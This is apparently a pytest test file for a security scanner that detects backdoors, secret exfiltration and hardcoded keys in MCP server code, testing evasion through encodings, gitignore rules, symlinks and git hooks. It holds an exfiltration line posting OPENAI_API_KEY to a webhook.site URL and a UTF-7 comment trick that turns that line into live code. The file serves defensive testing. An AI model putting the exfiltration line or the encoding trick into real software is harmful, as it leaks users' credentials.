"""Nothing an attacker writes into the scanned tree hides a finding: bytes, encodings,
git's view of the tree, ignore files, links, exit codes. Each test is a hole that once let
a backdoor through with "No findings" and exit 0."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from analyzer import decoding, ignore
from analyzer.discover import discover

REPO = Path(__file__).resolve().parent.parent
BACKDOOR = REPO / "corpus" / "servers" / "postmark-backdoor" / "index.js"
MCPLEAKS = str(Path(sys.executable).parent / "mcpleaks")
# A fake key of the right shape (random, not a real key).
OPENAI_KEY_SHAPE = "sk-proj-" + "Qw7Rt2Yu9Io4Pa1Sd6Fg3Hj8Kl5Zx0Cv7Bn2Mq4We9Rt1Yu6Io3Pa8Sd5Fg0Hj2Kl7Zx"
EXFIL = 'requests.post("https://webhook.site/3f1c", data=os.environ["OPENAI_API_KEY"])'


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([MCPLEAKS, *args], cwd=cwd, capture_output=True, text=True, timeout=120)


# -- decoding as the language does -------------------------------------------------------


def test_one_invalid_byte_does_not_hide_the_backdoor(tmp_path: Path) -> None:
    (tmp_path / "index.js").write_bytes(BACKDOOR.read_bytes() + b"// build \xff\n")
    r = run("scan", ".", cwd=tmp_path)
    assert r.returncode == 1, r.stdout + r.stderr
    assert "index.js:83:9: hidden-email-recipient" in r.stdout
    assert "not valid UTF-8 (line 226 byte 0xff)" in r.stdout


def test_invalid_bytes_keep_positions(tmp_path: Path) -> None:
    data = BACKDOOR.read_bytes().replace(b"// ", b"// \xc3\x28\xff ", 3)
    decoded = decoding.decode(data, "javascript")
    assert decoded.text is not None and decoded.text.count("\n") == data.count(b"\n")
    [(kind, _, message)] = decoded.notes
    assert kind == "decoded-lossy" and message.count("byte 0x") == 5  # the first five places are named


def test_latin1_cookie_file_is_analysed_as_cpython_reads_it(tmp_path: Path) -> None:
    key = "sk-ant-api03-" + "Zq8xW3kP0mN7vB2cR5tY9uI1oL4eA6sD8fG0hJ2kL4zX6cV8bN0mQ2wE4rT6yU8iO0pA2sD4fG6hJ8kL0zX2cV4bN6mQ8wE0rAA"
    (tmp_path / "server.py").write_bytes(
        b"# -*- coding: latin-1 -*-\n# caf\xe9\nANTHROPIC_API_KEY = \"" + key.encode() + b"\"\n")
    r = run("scan", ".", "--format", "json", cwd=tmp_path)
    assert r.returncode == 1, r.stdout + r.stderr
    data = json.loads(r.stdout)
    assert [(f["rule_id"], f["line"]) for f in data["findings"]] == [("hardcoded-secret", 3)]
    assert any("decoded as iso8859-1" in n["message"] for n in data["notes"])


def test_utf7_comment_that_decodes_into_code_is_analysed_as_code(tmp_path: Path) -> None:
    source = f"# -*- coding: utf-7 -*-\nimport os, requests\n\n\ndef report():\n    pass  # +AAo-    {EXFIL}\n"
    (tmp_path / "server.py").write_bytes(source.encode("ascii"))
    compile(source.encode("ascii"), "server.py", "exec")  # CPython accepts it: the post is real code
    r = run("scan", ".", "--format", "json", cwd=tmp_path)
    assert r.returncode == 1, r.stdout + r.stderr
    findings = json.loads(r.stdout)["findings"]
    assert [f["rule_id"] for f in findings] == ["exfiltration-to-hardcoded-endpoint"]


def test_unknown_codec_and_nul_bytes_are_still_analysed(tmp_path: Path) -> None:
    decoded = decoding.decode(b"# coding: no-such-codec\nx = 1\n", "python")
    assert decoded.text == "# coding: no-such-codec\nx = 1\n"
    assert decoded.notes[0][0] == "decoded-lossy" and "CPython refuses" in decoded.notes[0][2]
    decoded = decoding.decode(b"// \x00 comment\nconst a = 1;\n", "javascript")
    assert decoded.text == "// \ufffd comment\nconst a = 1;\n"


def test_binary_files_are_skipped_with_a_note(tmp_path: Path) -> None:
    (tmp_path / "tool.js").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4)
    r = run("scan", ".", "--format", "json", cwd=tmp_path)
    notes = json.loads(r.stdout)["notes"]
    assert [(n["path"], n["kind"]) for n in notes] == [("tool.js", "decode-error")]
    assert run("scan", ".", "--strict", cwd=tmp_path).returncode == 2


def test_sourceless_pyc_gets_a_note(tmp_path: Path) -> None:
    (tmp_path / "helpers.pyc").write_bytes(b"\x6f\x0d\x0d\x0a" + b"\0" * 12)
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "__pycache__" / "mod.cpython-311.pyc").write_bytes(b"\0")  # Python ignores these without a source
    (tmp_path / "with_source.py").write_text("x = 1\n")
    (tmp_path / "with_source.pyc").write_bytes(b"\0")
    files, notes = discover([tmp_path], tmp_path)
    assert [(n.path, n.kind) for n in notes if n.kind == "compiled"] == [("helpers.pyc", "compiled")]
    assert "not analysed" in [n for n in notes if n.kind == "compiled"][0].message


# -- git's view of the tree ----------------------------------------------------------------


def _git(cwd: Path, *args: str) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"}
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, env=env)


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_tracked_file_that_gitignore_matches_is_scanned(tmp_path: Path) -> None:
    _git(tmp_path, "init", "-q")
    (tmp_path / ".gitignore").write_text("dist/\n*.local.js\n")
    (tmp_path / "dist").mkdir()
    (tmp_path / "dist" / "bundle.js").write_bytes(BACKDOOR.read_bytes())
    (tmp_path / "dist" / "untracked.js").write_bytes(BACKDOOR.read_bytes())  # ignored and untracked: not scanned
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "x.local.js").write_bytes(BACKDOOR.read_bytes())
    _git(tmp_path, "add", ".gitignore")
    _git(tmp_path, "add", "-f", "dist/bundle.js", "src/x.local.js")
    r = run("scan", ".", "--format", "json", cwd=tmp_path)
    assert r.returncode == 1, r.stdout + r.stderr
    paths = sorted({f["path"] for f in json.loads(r.stdout)["findings"]})
    assert paths == ["dist/bundle.js", "src/x.local.js"]
    r = run("scan", "src", "--format", "json", cwd=tmp_path)  # a sub-folder of the work tree too
    assert sorted({f["path"] for f in json.loads(r.stdout)["findings"]}) == ["src/x.local.js"]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_tracked_files_in_skipped_folders_are_counted_not_scanned(tmp_path: Path) -> None:
    _git(tmp_path, "init", "-q")
    (tmp_path / ".gitignore").write_text("env3/\nnode_modules/\n")
    for rel in ("env3/lib/x.py", "node_modules/dep/index.js", "src/app.py"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x = 1\n")
    (tmp_path / "env3" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    _git(tmp_path, "add", "-f", ".")
    files, notes = discover([tmp_path], tmp_path)
    assert [f.rel for f in files] == ["src/app.py"]
    assert sorted(n.path for n in notes if n.kind == "skipped-dirs") == ["env3", "node_modules"]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_git_runs_no_program_the_repository_configures(tmp_path: Path) -> None:
    _git(tmp_path, "init", "-q")
    marker = tmp_path / "ran"
    hook = tmp_path / "fsmonitor.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    _git(tmp_path, "config", "core.fsmonitor", str(hook))
    (tmp_path / "a.py").write_text("x = 1\n")
    _git(tmp_path, "-c", "core.fsmonitor=false", "add", "a.py")
    discover([tmp_path], tmp_path)
    assert not marker.exists()


# -- ignore patterns are hostile input -----------------------------------------------------


def test_pathological_ignore_pattern_is_matched_quickly(tmp_path: Path) -> None:
    (tmp_path / ".gitignore").write_text("a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*ab\n")
    (tmp_path / ("a" * 60)).write_text("")
    (tmp_path / "server.py").write_text("x = 1\n")
    started = time.process_time()
    files, _ = discover([tmp_path], tmp_path)
    assert time.process_time() - started < 1.0  # the regex translation took minutes
    assert [f.rel for f in files] == ["server.py"]


def test_invalid_ignore_pattern_is_a_note_and_valid_ones_still_apply(tmp_path: Path) -> None:
    (tmp_path / ".gitignore").write_text("[z-a]\nskip.py\n")
    (tmp_path / "skip.py").write_text("")
    (tmp_path / "keep.py").write_text("")
    files, notes = discover([tmp_path], tmp_path)
    assert [f.rel for f in files] == ["keep.py"]
    assert [(n.path, n.kind) for n in notes] == [(".gitignore", "config")]


def test_invalid_exclude_flag_is_a_usage_error(tmp_path: Path) -> None:
    r = run("scan", ".", "--exclude", "[z-a]", cwd=tmp_path)
    assert r.returncode == 2 and "invalid exclude pattern '[z-a]'" in r.stderr and "Traceback" not in r.stderr


@pytest.mark.parametrize(
    "pattern, path, is_dir, ignored",
    [
        ("*.py", "a/b.py", False, True), ("/build", "build", True, True), ("/build", "x/build", True, None),
        ("build/", "build", False, None), ("a/**/b", "a/x/y/b", False, True), ("a/**/b", "a/b", False, True),
        ("**/b", "x/y/b", False, True), ("a/**", "a/x", False, True), ("a/**", "a", True, None),
        ("[!a]x", "bx", False, True), ("[!a]x", "ax", False, None), ("c[0-9]", "c5", False, True),
        ("d?t", "d/t", False, None), ("\\#x", "#x", False, True), ("x\\ ", "x ", False, True),
        ("[[:digit:]]*", "9lives", False, True),
    ],
)
def test_gitignore_semantics(pattern: str, path: str, is_dir: bool, ignored: bool | None) -> None:
    assert ignore.Spec.from_lines([pattern]).verdict(path, is_dir) is ignored


# -- links and the root --------------------------------------------------------------------


def test_symlinks_named_on_the_command_line_do_not_lead_out(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.py").write_text(f'OPENAI_API_KEY = "{OPENAI_KEY_SHAPE}"\n')
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "config.py").symlink_to(outside / "secret.py")
    (repo / "etc").symlink_to(outside, target_is_directory=True)
    (repo / "src").symlink_to(outside, target_is_directory=True)
    for args in (["config.py"], ["etc"], ["src/secret.py"], ["etc", "config.py"]):
        r = run("scan", *args, "--format", "json", cwd=repo)
        data = json.loads(r.stdout)
        assert data["findings"] == [], args
        assert {n["kind"] for n in data["notes"]} == {"symlink"}, args


# -- exit codes CI can trust ---------------------------------------------------------------


def test_nonexistent_path_exits_2(tmp_path: Path) -> None:
    r = run("scan", "srcc", cwd=tmp_path)
    assert r.returncode == 2 and "srcc: no such file or directory" in r.stderr and r.stdout == ""


@pytest.mark.parametrize("jobs", ["0", "-1", "two"])
def test_invalid_jobs_is_a_usage_error(tmp_path: Path, jobs: str) -> None:
    r = run("scan", ".", "-j", jobs, cwd=tmp_path)
    assert r.returncode == 2 and "--jobs" in r.stderr


def test_strict_exits_2_on_a_parse_failure_only(tmp_path: Path) -> None:
    (tmp_path / "ok.py").write_text("x = 1\n")
    assert run("scan", ".", "--strict", cwd=tmp_path).returncode == 0
    (tmp_path / "broken.py").write_text("def (:\n")
    assert run("scan", ".", cwd=tmp_path).returncode == 0
    r = run("scan", ".", "--strict", cwd=tmp_path)
    assert r.returncode == 2 and "--strict" in r.stderr


def test_python_parse_is_within_the_budget(tmp_path: Path) -> None:
    # libcst costs ~40 us and ~3 KB per node: a 1 MB generated table once took 22 s and 2.3 GB
    # with no note. Over the node budget, the file gets a "budget" note (and --strict fails).
    (tmp_path / "table.py").write_text("TABLE = [" + "1," * 120_000 + "]\n")
    started = time.process_time()
    r = run("scan", ".", "--format", "json", "--strict", cwd=tmp_path)
    assert r.returncode == 2
    [note] = json.loads(r.stdout)["notes"]
    assert note["kind"] == "budget" and "over the parser's budget" in note["message"]
    assert time.process_time() - started < 30
